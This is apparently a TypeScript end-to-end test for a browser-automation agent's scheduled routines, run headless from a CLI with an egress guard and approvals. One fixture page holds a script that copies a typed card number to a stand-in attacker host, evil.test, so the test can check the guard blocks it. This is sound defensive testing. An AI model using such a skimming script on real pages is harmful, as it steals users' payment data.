import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { SchedulesFile } from '../../shared/routines/host-schedules';
import type { Routine } from '../../shared/routines/routine';
import { exportRoutine } from '../../shared/routines/routine-file';
import { useE2e } from './support/e2e-fixture';
import { PANEL } from './support/panel-harness';
import { BUILT_HOST } from './support/register-host';
import { closedPort, launchTestBrowser, siteUrl, testHostEnv } from './support/test-hosts';
import { uiCall } from './support/ui-call';
import { waitUntil } from './support/wait-until';

// Issue 30, item 4, from the host: schedules set in the extension are synced to the host (no values), and with the
// browser closed the real `deputy schedules run-due` runs the due ones headless on that profile. A run that needs an
// approval is stopped there, never approved; a secret goes only to its own site (the egress guard asks at replay, and
// nobody approves). Replays need no model: the model's address is a closed port. One browser at a time.

const CARD = '4111 1111 1111 1111';

const e2e = useE2e({
  host: true,
  work: true,
  env: () => ({ DEPUTY_STATE_DIR: join(e2e.work, 'state') }),
  routes: (url) => ({
    '/store': `<!doctype html><title>Mug store</title><h1>Mug store</h1><label>Item <input id="item"></label> <button id="go">Search</button><p id="said"></p>
<script>document.getElementById('go').onclick = () => { document.getElementById('said').textContent = 'Searched: ' + document.getElementById('item').value; fetch('/searched?q=' + encodeURIComponent(document.getElementById('item').value)); };</script>`,
    '/checkout': `<!doctype html><title>Checkout</title><h1>Checkout</h1><p>Total: $12.00</p><button id="place">Place order</button><p id="result"></p>
<script>document.getElementById('place').onclick = () => { fetch('/placed'); document.getElementById('result').textContent = 'Order placed'; };</script>`,
    // The card goes to the shop (its own site) and, by a script of the page, to evil.test: the guard must hold that.
    '/card': `<!doctype html><title>Card on file</title><h1>Card on file</h1><label>Card number <input id="card"></label> <button id="next">Continue</button>
<script>document.getElementById('card').oninput = (e) => { const v = encodeURIComponent(e.target.value); fetch('/kept?c=' + v); fetch(${JSON.stringify(url('/collect', 'evil.test'))} + '?c=' + v, { mode: 'no-cors' }); };</script>`,
  }),
});

const run = promisify(execFile);
const stateFile = (): string => join(e2e.work, 'state', 'schedules.json');

/** The real CLI of the built host, as cron would start it (with the test's name mapping, so .test is loopback). */
async function deputy(...args: string[]): Promise<{ code: number; out: string }> {
  try {
    const { stdout, stderr } = await run(process.execPath, [BUILT_HOST, ...args], { env: { ...process.env, ...testHostEnv(), DEPUTY_STATE_DIR: join(e2e.work, 'state') }, timeout: 200_000 });
    return { code: 0, out: stdout + stderr };
  } catch (error) {
    const failed = error as { code?: number; stdout?: string; stderr?: string };
    return { code: typeof failed.code === 'number' ? failed.code : -1, out: `${failed.stdout ?? ''}${failed.stderr ?? ''}` };
  }
}

function routine(name: string, path: string, task: string, params: Routine['params'], steps: Omit<Routine['steps'][number], 'url'>[]): Routine {
  const url = e2e.site.url(path, 'shop.test');
  return { format: 'deputy-routine', version: 1, name, sites: [new URL(url).origin], task, startUrl: url, params, steps: steps.map((s) => ({ ...s, url })), createdAt: Date.now() };
}

const box = (name: string) => ({ role: 'textbox', name, nth: 0, of: 1 });
const button = (name: string) => ({ role: 'button', name, nth: 0, of: 1 });

describe('schedules run by the host with the browser closed', () => {
  let due = 0;
  const ids: Record<'search' | 'order' | 'card', string> = { search: '', order: '', card: '' };

  it('syncs the schedules to the host without their values, and run-due leaves a profile the browser holds alone', async () => {
    const helper = await e2e.helper();
    // A model that is not there: a replay that needs none never calls it.
    await uiCall(helper, 'settings.set', {
      provider: { preset: 'custom', baseUrl: siteUrl(await closedPort(), 'models.test', '/v1'), model: 'gpt-4o-mini', stream: true, openaiApi: 'chat', toolCalling: 'native', vision: false, timeoutMs: 5_000, maxRetries: 0 },
      defaultMode: 'act',
      personalData: { card_number: CARD },
    });
    const imported = async (r: Routine): Promise<string> => (await uiCall(helper, 'routine.import', { text: await exportRoutine(r) })).routine.id;
    const search = await imported(routine('Search mugs', '/store', 'Search the store for {{item}}', [{ name: 'item', kind: 'text', example: 'red mug' }], [
      { tool: 'type', args: { text: '{{item}}' }, target: box('Item'), text: 'Type the item' },
      { tool: 'click', args: {}, target: button('Search'), text: 'Click Search' },
    ]));
    const order = await imported(routine('Place the order', '/checkout', 'Place the order', [], [{ tool: 'click', args: {}, target: button('Place order'), text: 'Click Place order' }]));
    const card = await imported(routine('Card on file', '/card', 'Put {{card}} on file', [{ name: 'card', kind: 'secret' }], [
      { tool: 'type', args: { text: '{{card}}' }, target: box('Card number'), text: 'Type the card' },
      { tool: 'click', args: {}, target: button('Continue'), text: 'Click Continue' },
    ]));
    // The host has connected and synced (nothing yet); with the browser open on the profile, run-due says so and
    // leaves it alone, and the host's file stays as it was.
    const before = await waitUntil('the host to sync the schedules at connect', () => readFile(stateFile(), 'utf8').catch(() => null), { timeoutMs: 60_000 });
    const busy = await deputy('schedules', 'run-due', '--profile', e2e.profile);
    expect(busy.code).toBe(0);
    expect(busy.out).toContain(`A browser is open on ${e2e.profile}: its Deputy runs the due schedules itself`);
    expect(await readFile(stateFile(), 'utf8')).toBe(before);

    // The open browser would run them itself when its alarms ring: its schedule alarms are cleared as soon as the three
    // are set (well before they are due), so however long the browser then takes to close, only the host can run them.
    due = Date.now() + 45_000;
    const once = { every: 'once' as const, at: due, costCapUsd: 0.05, runsPerDay: 1 };
    ids.search = (await uiCall(helper, 'routine.schedule', { routineId: search, params: { item: 'blue mug' }, ...once })).id;
    ids.order = (await uiCall(helper, 'routine.schedule', { routineId: order, ...once })).id;
    ids.card = (await uiCall(helper, 'routine.schedule', { routineId: card, params: { card: '{{card_number}}' }, ...once })).id;
    const held = await (await e2e.ext.worker()).evaluate(async () => {
      const names = (await chrome.alarms.getAll()).map((a) => a.name).filter((name) => name.startsWith('routine-schedule:'));
      for (const name of names) await chrome.alarms.clear(name);
      return names.length;
    });
    expect(held).toBe(3);
    expect(Date.now(), 'the alarms were cleared before the schedules were due (a machine this busy: raise the 45 s)').toBeLessThan(due);
    const synced = await waitUntil('the host to hold the three schedules', async () => {
      const text = await readFile(stateFile(), 'utf8').catch(() => '');
      return Object.values(ids).every((id) => text.includes(id)) ? text : null;
    }, { timeoutMs: 60_000, everyMs: 50 });
    await e2e.ext.browser.close();
    // No value of any schedule reaches the host's file: not the item, not the card, not even its placeholder.
    for (const value of ['blue mug', CARD, CARD.replaceAll(' ', ''), 'card_number']) expect(synced).not.toContain(value);
    const file = SchedulesFile.parse(JSON.parse(synced));
    expect(file.schedules.find((s) => s.id === ids.card)).toMatchObject({ label: 'Routine "Card on file"', nextAt: due });
  });

  it('bad input says what to do and loses nothing', async () => {
    const corrupt = join(e2e.work, 'corrupt.json');
    await writeFile(corrupt, '{"version": 1, "schedules": [');
    // Independent calls of the real CLI, started together.
    const [missing, none, unknown, install, bad, list] = await Promise.all([
      deputy('schedules', 'run-due', '--profile', join(e2e.work, 'no-such-profile')),
      deputy('schedules', 'run-due'),
      deputy('schedules', 'run-due', '--profile', e2e.profile, '--only', 'no-such-id'),
      deputy('schedules', 'install', '--profile', e2e.profile),
      deputy('schedules', 'run-due', '--profile', e2e.profile, '--file', corrupt),
      deputy('schedules', 'list'),
    ]);
    expect(list.out).toContain(`${ids.card}  Routine "Card on file"  once, next `);
    expect(missing.code).toBe(2);
    expect(missing.out).toMatch(/no browser profile at .*no-such-profile.*chrome:\/\/version.*Nothing ran/s);
    expect(none.code).toBe(2);
    expect(none.out).toContain('--profile <folder> (or DEPUTY_PROFILE)');
    expect(unknown.code).toBe(1);
    expect(unknown.out).toContain('No schedule no-such-id');
    expect(unknown.out).toContain(`${ids.order} (Routine "Place the order")`);
    // What to add to cron: the real command, every 5 minutes, its output kept in a log beside the schedules.
    expect(install.out).toContain(`*/5 * * * * "${process.execPath}" "${join(process.cwd(), BUILT_HOST)}" schedules run-due --profile "${e2e.profile}" >> "${join(e2e.work, 'state', 'schedules.log')}" 2>&1`);
    expect(bad.code).toBe(1);
    expect(bad.out).toMatch(/is not one Deputy wrote.*left as it is.*move it aside/s);
    expect(await readFile(corrupt, 'utf8')).toBe('{"version": 1, "schedules": [');
    // None of this touched the real schedules or ran them.
    for (const id of Object.values(ids)) expect(await readFile(stateFile(), 'utf8')).toContain(id);
    expect(e2e.site.requests.filter((r) => /\/(searched|placed|kept|collect)/.test(r))).toEqual([]);
  });

  it('run-due runs them headless: a result in History and as a notice, an approval never given, a secret only to its site; a second call runs nothing', async () => {
    await waitUntil('the schedules to be due', () => Date.now() > due + 500, { timeoutMs: 90_000 });
    const first = await deputy('schedules', 'run-due', '--profile', e2e.profile);
    expect(first.out).toContain('3 scheduled runs are due');
    expect(first.out).toMatch(/Routine "Search mugs": completed \(in History as task /);
    expect(first.out).toMatch(/Routine "Place the order": waits for your approval of "Click .*"Place order""; nobody is at the browser, so it was stopped, not approved/);
    expect(first.out).toMatch(/Routine "Card on file": waits for your approval of "Type "\{\{card\}\}" .* to http:\/\/evil\.test:\d+\/collect carrying \{\{card\}\}.*not approved/);
    expect(first.code, first.out).toBe(1);
    // The secret reached its own site only; the order was never placed.
    expect(e2e.site.requests.some((r) => r.startsWith('shop.test') && r.includes('/searched?q=blue%20mug'))).toBe(true);
    expect(e2e.site.requests.some((r) => r.startsWith('shop.test') && r.includes(`/kept?c=${encodeURIComponent(CARD)}`))).toBe(true);
    expect(e2e.site.requests.filter((r) => r.includes('/collect') || r.includes('/placed'))).toEqual([]);
    expect(existsSync(`${stateFile()}.lock`)).toBe(false);

    // Idempotent: nothing is due any more, and no browser is started for it.
    const second = await deputy('schedules', 'run-due', '--profile', e2e.profile);
    expect(second.code).toBe(0);
    expect(second.out).toMatch(/^Nothing is due: no schedule|^Nothing is due\./);
    expect(SchedulesFile.parse(JSON.parse(await readFile(stateFile(), 'utf8'))).schedules.map((s) => s.nextAt)).toEqual([null, null, null]);

    // The user opens the browser: History has the three runs, and each ended with a notice that was kept.
    const ext = await launchTestBrowser({ userDataDir: e2e.profile, env: { DEPUTY_STATE_DIR: join(e2e.work, 'state') } });
    try {
      await ext.worker();
      const page = await ext.openExtensionPage(PANEL);
      const tasks = (await uiCall(page, 'task.list', {})).filter((t) => t.schedule);
      const of = (id: string) => tasks.find((t) => t.schedule?.id === id);
      expect(of(ids.search)?.status).toBe('completed');
      expect(of(ids.order)?.status).toBe('stopped');
      expect(of(ids.card)?.status).toBe('stopped');
      // The card is in History only as its placeholder.
      expect(JSON.stringify(tasks)).not.toContain(CARD);
      const notices = await uiCall(page, 'routine.notices', {});
      const said = (id: string | undefined) => notices.find((n) => n.id === `schedule-run:${id ?? ''}`);
      expect(said(of(ids.search)?.id)).toMatchObject({ title: 'Deputy: scheduled run completed' });
      expect(said(of(ids.order)?.id)?.message).toMatch(/needed your approval of "Click .*"Place order"".*not approved/);
      expect(said(of(ids.card)?.id)?.message).toMatch(/needed your approval of .*evil\.test.*not approved/);
      expect(JSON.stringify(notices)).not.toContain(CARD);
    } finally {
      await ext.close();
    }
  }, 240_000);
});
